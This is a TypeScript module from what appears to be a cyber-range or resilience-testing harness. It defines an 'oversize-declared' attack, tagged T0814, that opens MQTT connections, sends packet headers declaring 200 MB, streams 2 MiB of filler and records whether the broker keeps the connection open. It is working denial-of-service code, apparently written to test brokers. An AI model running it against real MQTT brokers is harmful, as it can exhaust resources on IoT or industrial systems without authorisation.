import type { Range } from '../range.ts'
import type { Attack } from './attack.ts'
import { header, prefixed } from './packets.ts'
import type { Session } from './session.ts'

const DECLARED = 200 * 1024 * 1024
const CHUNK = Buffer.alloc(64 * 1024, 0x20)
/** 2 MiB is sent of what was declared. */
const CHUNKS = 32
const GRACE = 1500

/**
 * Declares packets of 200 MB and begins to send them. Effect: connections that are still open after 2 MiB and a while,
 * which means that somebody buffers or waits for the rest.
 */
export const oversizeDeclared: Attack = {
  name: 'oversize-declared',
  technique: 'T0814',
  title: 'Declare packets of 200 MB',
  expected: 'floor',
  alone: false,
  seconds: () => 5,
  async run(range) {
    await range.proveAccess()
    const inside = await range.enter(4)
    const topic = prefixed(range.topic(range.device, 'telemetry'))
    const kept = [
      await held(range, inside, Buffer.concat([header(0x30, DECLARED), topic])),
      await held(range, await range.dial(), Buffer.concat([header(0x10, DECLARED), prefixed('MQTT')])),
    ]
    const effect = kept.filter(Boolean).length
    return {
      attempts: kept.length,
      effect,
      detail: `${effect} of ${kept.length} connections stayed open, waiting for more`,
    }
  },
}

async function held(range: Range, session: Session, start: Uint8Array): Promise<boolean> {
  session.send(start)
  for (let i = 0; i < CHUNKS && !session.closed; i += 1) {
    session.send(CHUNK)
    await range.sleep(5)
  }
  await session.until(() => false, GRACE)
  const open = !session.closed
  session.destroy()
  return open
}
